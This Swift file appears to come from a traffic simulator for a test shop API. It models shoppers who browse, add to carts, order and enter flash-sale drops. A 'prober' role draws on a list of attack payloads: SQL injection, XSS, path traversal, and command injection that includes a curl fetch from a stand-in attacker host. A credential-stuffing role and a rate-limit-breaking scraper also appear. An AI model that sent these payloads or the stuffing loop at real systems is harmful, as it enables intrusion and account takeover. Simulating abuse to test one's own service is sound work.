import Foundation
import HTTP

extension Simulator {
    static let probes = [
        "1' OR '1'='1", "' UNION SELECT email, password FROM users--", "1; DROP TABLE orders--", "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>", "; cat /etc/passwd", "$(curl http://evil.example/x.sh)", "../../../../etc/passwd",
    ]

    /// The request `actor` sends next (nil: nothing this turn), updating what it remembers.
    func plan(_ actor: inout VirtualClient, scenario: String, drop: OpenDrop?, step: Int) async -> HTTPClientRequest? {
        switch actor.role {
        case .shopper: return shop(&actor, scenario: scenario, drop: drop)
        case .prober:
            let probe = Self.probes[Int(actor.random.next() % UInt64(Self.probes.count))]
            if actor.random.unit() < 0.5 {
                return .get("/api/products?q=" + (probe.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""))
            }
            return .post("/api/events", json: #"{"type":"view","productId":"\#(probe.replacingOccurrences(of: "\"", with: "\\\""))"}"#)
        case .scraper:
            // Walks the catalog page by page, far over the rate limit.
            return .get("/api/products?limit=50&category=\(["tea", "coffee", "kitchen", "books"][step % 4])")
        case .stuffer:
            let guess = actor.random.next() % 100_000
            return .post("/api/sessions", json: #"{"email":"customer\#(guess)@example.com","password":"Summer2026!"}"#)
        }
    }

    /// A shopper's next move: sign up and in first; in a flash sale with a drop, enter it, check the entry and
    /// order a win; otherwise browse by popularity and taste, view, put products in the cart — often followed
    /// by their complement — and now and then order the cart (or, with an empty cart, one product).
    private func shop(_ actor: inout VirtualClient, scenario: String, drop: OpenDrop?) -> HTTPClientRequest? {
        guard let token = actor.token else {
            let body = #"{"email":"\#(actor.email)","password":"\#(actor.password)"}"#
            // Sign-up first (a 409 later means the account exists), then sign-in, alternating until a token comes back.
            actor.signInAttempts += 1
            return .post(actor.signInAttempts % 2 == 1 ? "/api/users" : "/api/sessions", json: body)
        }
        var headers = HTTPHeaders()
        headers.set("Authorization", "Bearer \(token)")
        headers.set("User-Agent", "Mozilla/5.0 (shopdeck simulator; shopper \(actor.index))")
        if let drop, let request = enterDrop(drop, &actor, headers: headers) { return request }
        let roll = actor.random.unit()
        if scenario == "flash-sale", drop == nil, roll < 0.5 {
            headers.set("Idempotency-Key", "sim-\(settings.seed)-\(actor.index)-\(actor.random.next())")
            return .post("/api/orders", json: #"{"items":[{"productId":"\#(settings.hotProduct)","quantity":1}]}"#, headers: headers)
        }
        if let recommended = actor.pendingRecommendation {
            actor.pendingRecommendation = nil
            return addToCart(recommended, &actor, headers: headers)
        }
        if let complement = actor.pendingComplement {
            actor.pendingComplement = nil
            if actor.random.unit() < 0.7 { return addToCart(complement, &actor, headers: headers) }
        }
        let products = settings.products
        let product = actor.random.unit() < 0.7 && !actor.taste.isEmpty
            ? actor.taste[actor.random.zipf(actor.taste.count)] : products[actor.random.zipf(products.count)]
        switch roll {
        case ..<0.40: return .get("/api/products/\(product)", headers: headers)
        case ..<0.60: return .post("/api/events", json: #"{"type":"view","productId":"\#(product)"}"#, headers: headers)
        case ..<0.70: return .get("/api/products/\(product)/similar", headers: headers)
        case ..<0.83:
            actor.pendingComplement = complement(of: product)
            return addToCart(product, &actor, headers: headers)
        case ..<0.89: return .get("/api/recommendations", headers: headers)
        case ..<0.93: return .get("/api/cart", headers: headers)
        default:
            if !actor.cart.isEmpty {
                headers.set("Idempotency-Key", "cart-\(settings.seed)-\(actor.index)-\(actor.random.next())")
                return .post("/api/orders", json: "{}", headers: headers)
            }
            headers.set("Idempotency-Key", "sim-\(settings.seed)-\(actor.index)-\(actor.random.next())")
            return .post("/api/orders", json: #"{"items":[{"productId":"\#(product)","quantity":1}]}"#, headers: headers)
        }
    }

    /// The drop's part of a shopper's turn: enter once, look at the entry until it is decided, order a win
    /// once. Nil when the shopper is done with this drop.
    private func enterDrop(_ drop: OpenDrop, _ actor: inout VirtualClient, headers: HTTPHeaders) -> HTTPClientRequest? {
        guard let entry = actor.entry, entry.dropId == drop.id else {
            actor.entry = DropEntryMemory(dropId: drop.id, state: "pending")
            return .post("/api/drops/\(drop.id)/entries", json: "{}", headers: headers)
        }
        switch entry.state {
        case "pending":
            // An entry whose POST failed has no id: enter again (the shop answers with the same entry).
            guard let entryId = entry.entryId else { return .post("/api/drops/\(drop.id)/entries", json: "{}", headers: headers) }
            return .get("/api/drops/\(drop.id)/entries/\(entryId)", headers: headers)
        case "won" where !entry.ordered:
            var headers = headers
            headers.set("Idempotency-Key", "drop-\(drop.id)-\(entry.entryId ?? "")")
            return .post("/api/orders", json: #"{"items":[{"productId":"\#(settings.hotProduct)","quantity":1}]}"#, headers: headers)
        default:
            return nil
        }
    }

    private func addToCart(_ product: String, _ actor: inout VirtualClient, headers: HTTPHeaders) -> HTTPClientRequest {
        if !actor.cart.contains(product) { actor.cart.append(product) }
        return .post("/api/cart/items", json: #"{"productId":"\#(product)","quantity":1}"#, headers: headers)
    }

    /// The product bought with `product`: its neighbour in the catalogue's pairs (first with second, third
    /// with fourth…), a fixed pattern for the recommender's "bought together" to find.
    func complement(of product: String) -> String? {
        guard let index = settings.products.firstIndex(of: product) else { return nil }
        let partner = index ^ 1
        return settings.products.indices.contains(partner) ? settings.products[partner] : nil
    }
}
